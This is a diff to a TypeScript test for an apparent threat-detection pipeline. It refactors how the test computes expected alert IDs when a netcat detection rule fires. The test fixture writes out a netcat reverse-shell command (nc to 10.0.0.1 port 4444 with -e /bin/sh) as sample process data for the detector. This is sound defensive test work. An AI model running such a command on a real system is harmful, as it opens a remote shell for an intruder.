@@ -14,7 +14,8 @@ import { pino } from 'pino';
 import { buildEvent, createBuildContext } from '../../src/agent/events.ts';
 import { ProcessCache } from '../../src/agent/process-cache.ts';
 import type { Bus, BusMessage, Subscription } from '../../src/bus/types.ts';
-import { alertId, type Alert } from '../../src/detect/alerts.ts';
+import type { Alert } from '../../src/detect/alerts.ts';
+import { alertIdOf } from '../support/events.ts';
 import { RuleService } from '../../src/detect/rule-service.ts';
 import type { DetectionStage } from '../../src/detect/stage.ts';
 import type { VigilEvent } from '../../src/schema/event.ts';
@@ -78,7 +79,7 @@ test('worker stage: stores and publishes each alert; a replayed batch adds nothi
   assert.equal(stage.required, true);
   const shells = processStarts('/usr/bin/nc', ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'], 2);
   const batch = [...processStarts('/usr/bin/ls', ['ls', '-l'], 3), ...shells];
-  const expected = shells.map((e) => alertId(NETCAT_RULE, [e.event.id])).sort();
+  const expected = shells.map((e) => alertIdOf(NETCAT_RULE, e)).sort();
 
   await stage.process(batch);
   assert.deepEqual(bus.published.map((m) => m.id).sort(), expected);
